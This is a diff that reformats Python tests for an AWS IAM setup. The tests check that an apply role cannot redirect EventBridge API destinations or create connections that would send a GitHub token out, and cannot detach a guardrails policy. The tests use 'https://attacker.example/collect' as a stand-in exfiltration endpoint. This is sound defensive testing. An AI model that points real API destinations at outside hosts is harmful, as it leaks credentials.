@@ -29,16 +29,32 @@ def test_the_apply_role_cannot_send_the_github_token_anywhere_but_github(world: 
     events = client(world.url, _apply_role(world), "events")
     connection_arn = f"arn:aws:events:{REGION}:{dev}:connection/{CONNECTION}"
     attacker = "https://attacker.example/collect"
-    message = refused(lambda: events.update_api_destination(Name=DESTINATION, InvocationEndpoint=attacker, HttpMethod="POST"))
-    assert f"events:UpdateApiDestination on resource: arn:aws:events:{REGION}:{dev}:api-destination/{DESTINATION}" in message
-    refused(lambda: events.create_api_destination(Name="mlops-dev-relay", ConnectionArn=connection_arn, InvocationEndpoint=attacker, HttpMethod="POST"))
-    refused(lambda: events.create_connection(
-        Name="mlops-dev-relay", AuthorizationType="API_KEY", AuthParameters={"ApiKeyAuthParameters": {"ApiKeyName": "Authorization", "ApiKeyValue": "x"}},
-    ))
+    message = refused(
+        lambda: events.update_api_destination(Name=DESTINATION, InvocationEndpoint=attacker, HttpMethod="POST")
+    )
+    assert (
+        f"events:UpdateApiDestination on resource: arn:aws:events:{REGION}:{dev}:api-destination/{DESTINATION}"
+        in message
+    )
+    refused(
+        lambda: events.create_api_destination(
+            Name="mlops-dev-relay", ConnectionArn=connection_arn, InvocationEndpoint=attacker, HttpMethod="POST"
+        )
+    )
+    refused(
+        lambda: events.create_connection(
+            Name="mlops-dev-relay",
+            AuthorizationType="API_KEY",
+            AuthParameters={"ApiKeyAuthParameters": {"ApiKeyName": "Authorization", "ApiKeyValue": "x"}},
+        )
+    )
     refused(lambda: events.update_connection(Name=CONNECTION, AuthorizationType="API_KEY"))
     refused(lambda: events.delete_api_destination(Name=DESTINATION))
     not_refused(lambda: events.describe_api_destination(Name=DESTINATION))  # plans still refresh it
-    for action, resource in (("events:UpdateApiDestination", f"api-destination/{DESTINATION}"), ("events:CreateConnection", "connection/mlops-dev-relay")):
+    for action, resource in (
+        ("events:UpdateApiDestination", f"api-destination/{DESTINATION}"),
+        ("events:CreateConnection", "connection/mlops-dev-relay"),
+    ):
         assert decided_before(APPLY, Request(action, f"arn:aws:events:{REGION}:{dev}:{resource}"), dev).allowed
 
 
@@ -51,7 +67,12 @@ def test_the_apply_role_cannot_detach_the_guardrails_from_any_role(world: World)
     for role in ("mlops-dev-data-scientist", "mlops-dev-abalone-pipeline"):
         message = refused(lambda role=role: iam.detach_role_policy(RoleName=role, PolicyArn=guardrails))
         assert "with an explicit deny" in message
-    not_refused(lambda: iam.attach_role_policy(RoleName="mlops-dev-data-scientist", PolicyArn=guardrails))  # already attached: a no-op
-    context = {"iam:PolicyARN": guardrails, "iam:PermissionsBoundary": f"arn:aws:iam::{dev}:policy/mlops-dev-permission-boundary"}
+    not_refused(
+        lambda: iam.attach_role_policy(RoleName="mlops-dev-data-scientist", PolicyArn=guardrails)
+    )  # already attached: a no-op
+    context = {
+        "iam:PolicyARN": guardrails,
+        "iam:PermissionsBoundary": f"arn:aws:iam::{dev}:policy/mlops-dev-permission-boundary",
+    }
     role_arn = f"arn:aws:iam::{dev}:role/mlops-dev-data-scientist"
     assert decided_before(APPLY, Request("iam:DetachRolePolicy", role_arn, context), dev).allowed
